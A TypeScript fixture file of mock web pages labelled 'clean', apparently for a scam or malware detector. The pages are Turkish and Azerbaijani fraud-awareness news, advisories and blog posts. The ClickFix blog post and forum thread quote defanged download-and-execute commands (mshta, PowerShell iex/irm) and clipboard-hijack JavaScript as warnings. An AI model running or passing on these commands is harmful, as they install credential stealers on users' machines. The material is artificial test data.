import { type Entry } from '../entry.js';
import { doc, esc } from '../parts/xb-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-clean-haber-sahte-aidat-sms-ornekleri',
    label: 'clean',
    kind: 'news-quoting-scam-sms',
    url: 'https://www.ntv.com.tr/teknoloji/kart-aidati-iadesi-ve-tazminat-sms-lerine-dikkat,Xk3pQ8mR0kuY2aT1vZ9bNw',
    body: doc({
      title: 'Kart aidatı iadesi ve tazminat SMS\'lerine dikkat: Dolandırıcılar bu mesajlarla avlıyor | NTV',
      head: '<meta property="og:type" content="article">\n<script async src="/static/js/ads.ntv.min.js"></script>\n',
      css: `body{margin:0;font-family:Georgia,"Times New Roman",serif;color:#111}.m{background:#c4161c;color:#fff;padding:12px 24px;font:bold 22px Arial}.a{max-width:720px;margin:24px auto;padding:0 16px;line-height:1.75;font-size:17px}.a h1{font-family:Arial;font-size:30px;line-height:1.25}
.sms{font-family:Arial;font-size:14px;background:#e9f3e3;border-radius:14px;padding:10px 14px;margin:10px 0;max-width:520px}.meta{font:13px Arial;color:#777}`,
      body: `<div class="m">NTV</div>
<article class="a"><h1>Kart aidatı iadesi ve tazminat SMS'lerine dikkat: Dolandırıcılar bu mesajlarla avlıyor</h1><p class="meta">Teknoloji · 15.10.2025 11:20</p>
<p>Son haftalarda binlerce kişiye, bankalar ve kamu kurumları adına "aidat iadesi", "tazminat" ve "ihlalli geçiş cezası" içerikli SMS'ler gönderildi. Mesajlardaki bağlantılar, bankaların internet şubelerini birebir taklit eden sahte sayfalara yönlendiriyor. Okurlarımızın bize ilettiği mesajlardan bazıları şöyle:</p>
<div class="sms">Ziraat: 2019-2024 yillarinda tahsil edilen kart aidatlariniz 1.847,50 TL olarak iade edilecektir. Basvuru: ziraat-aidatiadesi-tr[.]com</div>
<div class="sms">HGS: 2 adet ihlalli gecisiniz bulunmaktadir. 15 gun icinde odenmezse 10 kati tahsil edilecektir. Sorgula: hgs-ihlal-sorgulama[.]com</div>
<div class="sms">PTT: Gonderiniz adres eksikligi nedeniyle depoda bekletilmektedir. 14,90 TL odeme ile adresinizi guncelleyin.</div>
<p>Siber güvenlik uzmanı Dr. Ayşe Karaca, sayfaların girilen bilgileri anında Telegram üzerinden dolandırıcılara ilettiğini belirterek, "Kurbanın ekranında 'işleminiz kontrol ediliyor' yazarken, karşı taraf bankaya giriş yapıp SMS kodunu bekliyor. Kod girildiği anda hesap boşaltılıyor" dedi.</p>
<p>Bankacılar Birliği, bankaların SMS ile gönderilen bağlantılar üzerinden şifre veya kart bilgisi istemediğini hatırlatarak, bu tür mesajların 7726'ya "SPAM" yazılarak bildirilebileceğini açıkladı.</p></article>`,
    }),
    routes: { 'www.ntv.com.tr/static/js/ads.ntv.min.js': jsRoute('window.googletag=window.googletag||{cmd:[]};(function(){var s=document.querySelectorAll("[data-ad-slot]");for(var i=0;i<s.length;i++){s[i].style.minHeight="250px"}})();') },
  },
  {
    id: 'xb-clean-blog-clickfix-sahte-captcha-analizi',
    label: 'clean',
    kind: 'security-blog-quoting-commands',
    url: 'https://www.siberguvenlikblog.com.tr/2025/10/clickfix-sahte-captcha-analizi/',
    body: doc({
      title: 'ClickFix: "Ben robot değilim" diyerek Win+R yaptıran sahte CAPTCHA sayfalarının analizi',
      css: `body{margin:0;font-family:"Inter",Arial,sans-serif;color:#222;background:#fcfcfc}.h{padding:16px 28px;border-bottom:1px solid #eee;font-weight:800}.p{max-width:760px;margin:26px auto;padding:0 18px;line-height:1.7}
pre{background:#1e1e1e;color:#d4d4d4;padding:14px;border-radius:6px;overflow:auto;font-size:13px;white-space:pre-wrap}.cp{float:right;font-size:12px;background:#333;color:#ddd;border:0;border-radius:4px;padding:3px 8px}.i{background:#fff7e0;border-left:4px solid #f0a500;padding:10px 14px}`,
      body: `<div class="h">SiberGüvenlikBlog</div>
<article class="p"><h1>ClickFix: Sahte CAPTCHA Sayfalarıyla Kullanıcıya Zararlı Komut Çalıştırtma</h1><p style="color:#777">14 Ekim 2025 · Okuma süresi 7 dk</p>
<p>ClickFix tekniğinde saldırgan, ele geçirilmiş bir WordPress sitesine veya sahte bir doğrulama sayfasına bir "robot değilim" kutusu yerleştirir. Kutucuğa tıklandığında JavaScript ile panoya bir komut kopyalanır ve kullanıcıdan <b>Windows + R</b>, <b>Ctrl + V</b>, <b>Enter</b> yapması istenir. Böylece tarayıcının indirme korumaları tamamen atlanır.</p>
<p>İncelediğimiz örnekte panoya kopyalanan komut şuydu (çalıştırmayın):</p>
<pre>mshta hxxps://dogrulama-cf-kontrol[.]com/cdn-cgi/v/ray-8d1f44a2.hta # ✅ ''Ben robot değilim - Cloudflare Doğrulama Kimliği: 4471''</pre>
<p>Komutun sonundaki <code>#</code> işaretinden sonraki kısım, Çalıştır penceresinde kullanıcının yalnızca "doğrulama kimliği" metnini görmesi için eklenmiştir. Sayfa kaynağında kopyalama işlemini yapan kod genellikle şu kalıptadır:</p>
<pre>${esc(`document.getElementById('ck').addEventListener('click', function () {
  navigator.clipboard.writeText(cmd);   // panoya zararlı komut
  showSteps();                           // "Win+R, Ctrl+V, Enter" talimatı
});`)}</pre>
<p>Diğer varyantlarda PowerShell'in <code>-EncodedCommand</code> parametresi veya <code>conhost.exe --headless</code> kullanılıyor:</p>
<pre>conhost.exe --headless powershell -w h -c "iex(irm hxxps://...)"</pre>
<div class="i"><b>Korunma:</b> Hiçbir meşru CAPTCHA sizden Çalıştır penceresine veya terminale bir şey yapıştırmanızı istemez. Kurumsal ortamlarda <code>HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU</code> kayıtlarını izlemek ve mshta.exe'yi AppLocker ile engellemek etkili önlemlerdir.</div>
<h2>IOC'ler</h2><pre>dogrulama-cf-kontrol[.]com
wp-cdn-analytics[.]com
onedrive-belge-paylasim[.]com</pre></article>`,
    }),
  },
  {
    id: 'xb-clean-paribu-blog-approve-tuzagi',
    label: 'clean',
    kind: 'exchange-blog-explaining-drainers',
    url: 'https://blog.paribu.com/airdrop-dolandiriciligi-approve-ve-permit-nedir',
    body: doc({
      title: 'Airdrop dolandırıcılığı: approve, permit ve setApprovalForAll tuzakları | Paribu Blog',
      css: `body{margin:0;font-family:"Graphik",Arial,sans-serif;color:#1a1a2e}.h{background:#4b2bda;color:#fff;padding:16px 28px;font-weight:700}.a{max-width:740px;margin:26px auto;padding:0 18px;line-height:1.7}
pre{background:#f4f2ff;border:1px solid #ddd6ff;padding:12px;border-radius:8px;font-size:13px;overflow:auto}table{border-collapse:collapse;font-size:14px}td,th{border:1px solid #ddd;padding:6px 10px}`,
      body: `<div class="h">Paribu Blog</div>
<article class="a"><h1>Airdrop dolandırıcılığı: approve, permit ve setApprovalForAll tuzakları</h1>
<p>"Ücretsiz token talep et" vaat eden sahte airdrop sayfaları, cüzdanınızı bağladıktan sonra size zararsız görünen bir işlem onaylatır. Bu işlem aslında dolandırıcıya cüzdanınızdaki token'ları harcama yetkisi verir.</p>
<h2>En sık görülen çağrılar</h2><table><tr><th>Fonksiyon</th><th>Seçici</th><th>Ne yapar?</th></tr><tr><td><code>approve(spender, amount)</code></td><td><code>0x095ea7b3</code></td><td>Bir adrese token harcama izni verir</td></tr><tr><td><code>increaseAllowance</code></td><td><code>0x39509351</code></td><td>Mevcut izni artırır</td></tr><tr><td><code>setApprovalForAll(operator, true)</code></td><td><code>0xa22cb465</code></td><td>Tüm NFT'leriniz üzerinde yetki verir</td></tr><tr><td>Permit / Permit2 imzası</td><td>EIP-712</td><td>Gas ödemeden, yalnızca imzayla izin verir</td></tr></table>
<p>Örneğin cüzdanınızda şu veriyi içeren bir işlem görüyorsanız, sınırsız (MAX_UINT256) harcama izni veriyorsunuz demektir:</p>
<pre>to:   0xdAC17F958D2ee523a2206206994597C13D831ec7 (USDT)
data: 0x095ea7b3
      0000000000000000000000007f3c2a1d9b8e4f6a0c5d2e1b3a4f5c6d7e8f9a0b
      ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff</pre>
<h2>Ne yapmalısınız?</h2><ul><li>Paribu veya başka bir borsa, airdrop için cüzdan bağlamanızı ya da gizli kurtarma ifadenizi girmenizi istemez.</li><li>Verdiğiniz izinleri revoke.cash gibi araçlarla düzenli kontrol edin ve gereksiz olanları iptal edin.</li><li>İmza ekranında "Permit" veya "PermitBatch" görüyorsanız, spender adresini mutlaka kontrol edin.</li></ul></article>`,
    }),
  },
  {
    id: 'xb-clean-haber-kapora-dolandiriciligi',
    label: 'clean',
    kind: 'news-quoting-deposit-scam',
    url: 'https://www.sozcu.com.tr/yazlik-kiralama-kapora-dolandiriciligi-sahte-villa-ilanlari-p184522',
    body: doc({
      title: 'Yazlık kiralamada kapora tuzağı: Sahte villa ilanlarıyla binlerce lira dolandırıldılar - Sözcü',
      css: `body{margin:0;font-family:Arial,sans-serif;color:#222}.h{background:#fff;border-bottom:4px solid #e20a17;padding:12px 24px;font-weight:900;font-size:26px;color:#e20a17}.a{max-width:760px;margin:22px auto;padding:0 16px;line-height:1.7;font-size:16px}
blockquote{border-left:4px solid #e20a17;margin:12px 0;padding:6px 14px;background:#fafafa;font-style:italic}`,
      body: `<div class="h">SÖZCÜ</div>
<article class="a"><h1 style="font-size:28px">Yazlık kiralamada kapora tuzağı: Sahte villa ilanlarıyla binlerce lira dolandırıldılar</h1><p style="color:#777;font-size:13px">Güncelleme: 14.10.2025</p>
<p>Bodrum, Fethiye ve Kaş'ta tatil planlayanlar, sosyal medyada ve sahte sitelerde yayımlanan villa ilanlarıyla dolandırıldı. Şüpheliler gerçek villaların fotoğraflarını kullanarak oluşturdukları sitelerde "son 2 hafta müsait" diyerek acele ettiriyor, toplam tutarın yüzde 30'unu kapora olarak istiyor.</p>
<blockquote>"Rezervasyonunuz 2 saat süreyle ayrıldı. Kesinleşmesi için 5.400 TL kaporayı aşağıdaki hesaba yatırıp dekontu WhatsApp'tan iletiniz. Açıklamaya 'kira bedeli' yazınız, villa veya kapora yazmayınız."</blockquote>
<p>Mağdurlardan Elif T., "Yorumlar, fotoğraflar, her şey gerçek gibiydi. Kaporayı gönderdikten sonra telefonlara çıkmadılar" dedi. Emniyet yetkilileri, açıklamaya ürün adının yazılmamasının istenmesinin tipik bir dolandırıcılık işareti olduğunu vurguladı.</p>
<p>Uzmanlar; TÜRSAB belgesi bulunan acentelerle çalışılmasını, kaporanın bireysel IBAN yerine şirket hesabına ve mümkünse kredi kartıyla ödenmesini öneriyor.</p></article>`,
    }),
  },
  {
    id: 'xb-clean-tbb-dolandiricilik-turleri',
    label: 'clean',
    kind: 'banking-association-awareness',
    url: 'https://www.tbb.org.tr/tr/bankacilik/dolandiricilik-turleri/sahte-internet-siteleri',
    body: doc({
      title: 'Sahte İnternet Siteleri ve Oltalama | Türkiye Bankalar Birliği',
      css: `body{margin:0;font-family:Arial,sans-serif;color:#1f2a37}.h{background:#183153;color:#fff;padding:14px 26px;font-weight:bold}.g{max-width:960px;margin:22px auto;display:grid;grid-template-columns:220px 1fr;gap:26px;padding:0 16px}.g nav a{display:block;padding:7px 0;color:#183153;font-size:14px;border-bottom:1px solid #eee;text-decoration:none}
.c{line-height:1.7}.c .k{display:grid;grid-template-columns:1fr 1fr;gap:12px}.c .k div{background:#f4f6f9;border-radius:6px;padding:12px;font-size:14px}`,
      body: `<div class="h">TÜRKİYE BANKALAR BİRLİĞİ</div>
<div class="g"><nav><a href="#">Telefon dolandırıcılığı</a><a href="#"><b>Sahte internet siteleri</b></a><a href="#">Kapora dolandırıcılığı</a><a href="#">Yatırım dolandırıcılığı</a><a href="#">Yasa dışı bahis ve hesap kiralama</a></nav>
<div class="c"><h1 style="font-size:24px">Sahte internet siteleri ve oltalama (phishing)</h1><p>Dolandırıcılar banka, e-Devlet, kargo firmaları veya ikinci el ilan sitelerinin görünümünü kopyalayarak müşteri numarası, şifre, kart bilgileri ve SMS ile gelen tek kullanımlık şifreleri ele geçirmeye çalışır.</p>
<div class="k"><div><b>"Güvenli ödeme" tuzağı</b><br>İkinci el ilanlarda alıcı gibi davranan kişi, "ödemeyi yaptım, parayı almak için kart bilgilerinizi girin" diyerek sahte bir ödeme sayfası gönderir. Para almak için kart bilgisi gerekmez.</div><div><b>Bonus / puan aktarımı</b><br>"Puanlarınız silinecek" veya "aidat iadesi" mesajları aciliyet yaratmak için kullanılır.</div><div><b>Hesap kiralama</b><br>Yasa dışı bahis sitelerinde para yatırma için kullanılan Papara ve banka hesapları, kiralanmış hesaplardır. Hesabınızı başkasına kullandırmak suçtur.</div><div><b>Sahte mobil uygulama</b><br>Banka uygulamalarını yalnızca resmi mağazalardan indirin; APK dosyası ile gönderilen "güvenlik modülü" zararlı yazılımdır.</div></div>
<p>Bilgilerinizi paylaştığınızı düşünüyorsanız bankanızı hemen arayın. Bankaların tüm çağrı merkezleri 7/24 hizmet vermektedir.</p></div></div>`,
    }),
  },
  {
    id: 'xb-clean-cert-az-azerpoct-xeberdarliq',
    label: 'clean',
    kind: 'gov-cert-advisory-az',
    url: 'https://cert.gov.az/az/news/azerpoct-adindan-saxta-sms-mesajlari-barede-xeberdarliq',
    body: doc({
      title: 'Azərpoçt adından saxta SMS mesajları barədə xəbərdarlıq | CERT.gov.az',
      lang: 'az',
      css: `body{margin:0;font-family:Arial,sans-serif;color:#1d2733}.h{background:#00205b;color:#fff;padding:14px 26px;font-weight:bold}.c{max-width:780px;margin:22px auto;padding:0 16px;line-height:1.7}.s{background:#eef3fb;border:1px solid #c9d7ee;padding:10px;font-size:14px}`,
      body: `<div class="h">CERT.gov.az — Kompüter İnsidentlərinə Qarşı Mübarizə Mərkəzi</div>
<div class="c"><p style="color:#778;font-size:13px">14.10.2025</p><h1 style="font-size:23px">Azərpoçt adından saxta SMS mesajları barədə xəbərdarlıq</h1><p>Son günlər vətəndaşlara "bağlamanız gömrükdə saxlanılıb" məzmunlu SMS mesajları göndərilir. Mesajdakı keçid saxta ödəniş səhifəsinə yönləndirir və orada bank kartı məlumatları, eləcə də SMS təsdiq kodu tələb olunur.</p>
<p class="s">Nümunə: "Azerpoct: AZ7741203 nomreli baglamaniz gomrukde saxlanilib. 1,20 AZN odenis edin: azerpoct-baglama[.]info"</p>
<p>Eyni zamanda "Kartınız bloklanıb" məzmunlu, Birbank və digər bankları təqlid edən mesajlar da qeydə alınıb. Banklar və Azərpoçt heç vaxt SMS vasitəsilə kart məlumatlarınızı tələb etmir.</p><ul><li>Keçidlərə daxil olmayın;</li><li>Kart məlumatlarını daxil etmisinizsə, dərhal bankınızla əlaqə saxlayın;</li><li>Saxta saytları <b>report@cert.gov.az</b> ünvanına bildirin.</li></ul></div>`,
    }),
  },
  {
    id: 'xb-clean-forum-win-r-yapistirdim-yardim',
    label: 'clean',
    kind: 'forum-thread-quoting-clickfix',
    url: 'https://www.technopat.net/sosyal/konu/bir-sitede-win-r-ile-komut-yapistirdim-virus-mu.3418772/',
    body: doc({
      title: 'Bir sitede Win+R ile komut yapıştırdım, virüs mü? | Technopat Sosyal',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f0f2f5;color:#1c1e21}.h{background:#1d3557;color:#fff;padding:12px 24px;font-weight:bold}.t{max-width:860px;margin:18px auto;padding:0 12px}.p{background:#fff;border:1px solid #dde1e6;border-radius:6px;margin-bottom:12px;display:flex}
.u{width:150px;background:#f7f8fa;padding:12px;font-size:13px;border-right:1px solid #eee}.b{flex:1;padding:12px 16px;line-height:1.6;font-size:15px}code,pre{background:#f1f3f5;border:1px solid #e1e4e8;border-radius:4px;font-size:13px}pre{padding:10px;white-space:pre-wrap}.sol{border-color:#2e7d32}`,
      body: `<div class="h">Technopat Sosyal</div>
<div class="t"><h1 style="font-size:22px">Bir sitede Win+R ile komut yapıştırdım, virüs mü?</h1>
<div class="p"><div class="u"><b>emre_34</b><br>Üye</div><div class="b">Arkadaşlar bir haber sitesine girdim, "robot olmadığınızı kanıtlayın" çıktı. Win+R yapıp Ctrl+V ve Enter dedi, ben de yaptım. Çalıştır'da şöyle bir şey yazıyordu:<pre>powershell -w h -nop -c "$r='hxxps://wp-cdn-analytics[.]com/s/'+$env:COMPUTERNAME;iex(irm $r)" # Doğrulama: reCAPTCHA ID-7341</pre>Bir şey olmadı gibi ama endişelendim. Ne yapmam lazım?</div></div>
<div class="p sol"><div class="u"><b>Hakan Y.</b><br>Moderatör ✔</div><div class="b"><b>Çözüm olarak işaretlendi.</b> Maalesef bu ClickFix denen yöntem; yapıştırdığın komut internetten bir PowerShell betiği indirip çalıştırıyor ve genelde tarayıcıda kayıtlı şifreleri, çerezleri ve kripto cüzdanlarını çalan bir "stealer" kuruyor. Şunları yap:<ol><li>İnternet bağlantını kes.</li><li>Başka ve temiz bir cihazdan e-posta, banka, e-Devlet ve sosyal medya şifrelerini değiştir; tüm oturumları kapat.</li><li>Windows Defender ile çevrimdışı tarama yap, mümkünse Windows'u temiz kur.</li><li>Bankanı arayıp kartlarını yenilet.</li></ol>Gerçek CAPTCHA'lar asla <code>Win+R</code> yaptırmaz.</div></div></div>`,
    }),
  },
];
